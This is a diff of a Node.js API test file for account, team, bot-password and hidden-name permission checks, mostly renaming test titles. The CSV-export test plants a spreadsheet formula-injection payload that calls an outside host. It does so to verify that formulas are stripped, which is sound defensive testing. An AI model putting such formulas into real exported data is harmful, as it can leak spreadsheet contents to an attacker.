@@ -1,4 +1,5 @@
-// Nobody gets further than they were let: not by managing accounts or a team, not with a bot password, not past a hidden name.
+// Nobody can exceed their permissions: not by managing accounts or a team, not with a bot password, not past a hidden
+// name.
 import assert from 'node:assert/strict'
 import { before, test } from 'node:test'
 import { createBotPassword, findBotPassword } from '#accounts/bot-passwords.ts'
@@ -40,7 +41,7 @@ onEachEngine('who may do how much', open => {
     users = (await ok('Boss', 'GET', '/api/groups/?page_size=100')).results
   })
 
-  test('whoever manages accounts makes nobody more than they are themselves', async () => {
+  test('user managers cannot grant superuser status', async () => {
     for (const name of ['Clerk', 'Anna'])
       assert.equal(await status('Clerk', 'PATCH', `/api/users/${name}/`, { is_superuser: true }), 403)
     const fresh = { username: 'Fresh', full_name: 'F', email: 'f@example.org' }
@@ -56,14 +57,14 @@ onEachEngine('who may do how much', open => {
     assert.equal((await ok('Boss', 'GET', '/api/users/Boss/')).is_superuser, true)
   })
 
-  test('nor do they lead the mail of those who may do more to themselves', async () => {
+  test('user managers cannot change the email address of users with more permissions', async () => {
     await ok('Clerk', 'PATCH', '/api/users/Anna/', { email: 'anna@example.org' })
     await ok('Boss', 'POST', '/api/users/Berta/groups/', { group_id: team('Managers') })
     assert.equal(await status('Clerk', 'PATCH', '/api/users/Berta/', { email: 'clerk@example.org' }), 403)
     await ok('Clerk', 'PATCH', '/api/users/Berta/', { full_name: 'Berta B.' })
   })
 
-  test('the administrator of a team does not widen it', async () => {
+  test('team administrators cannot widen the scope of a team', async () => {
     const made = await ok('Boss', 'POST', '/api/groups/', {
       name: 'Czechs',
       project_selection: 0,
@@ -79,7 +80,7 @@ onEachEngine('who may do how much', open => {
     await ok('Boss', 'POST', `${path}languages/`, { language_code: 'de' })
   })
 
-  test('a bot password reads what strangers read, and writes nothing', async () => {
+  test('a bot password reads only public data and cannot write', async () => {
     const { services } = api
     const account = (await services.accounts.byName(services.store.read, 'Boss'))!
     await services.store.transaction(tx => createBotPassword(tx, account.id, 'tool', ['basic']))
@@ -99,11 +100,11 @@ onEachEngine('who may do how much', open => {
     })
     assert.deepEqual(
       [refused.status, refused.json.detail],
-      [403, 'A bot password is for the wiki; use the API key here.'],
+      [403, 'Bot passwords work only for the wiki. Use an API key here.'],
     )
   })
 
-  test('a name that oversight hid shows to those alone who may hide names', async () => {
+  test('a hidden username is visible only to users who can hide names', async () => {
     const { store } = api.services
     const { account, key } = await api.user('Qqoffence')
     const unit = (await ok('Boss', 'GET', '/api/translations/hello/main/cs/units/')).results[0]
@@ -146,7 +147,7 @@ onEachEngine('who may do how much', open => {
     assert.equal((await api.send('GET', '/api/users/Qqoffence/', { key })).status, 200, 'oneself')
   })
 
-  test('a table for spreadsheets holds no formulas', async () => {
+  test('CSV output contains no spreadsheet formulas', async () => {
     const formula = '=HYPERLINK("http://example.org/?"&A1)'
     await ok('Boss', 'PATCH', '/api/users/Anna/', { full_name: formula })
     const { text } = await send('Boss', 'GET', '/api/users/?format=csv&username=Anna')
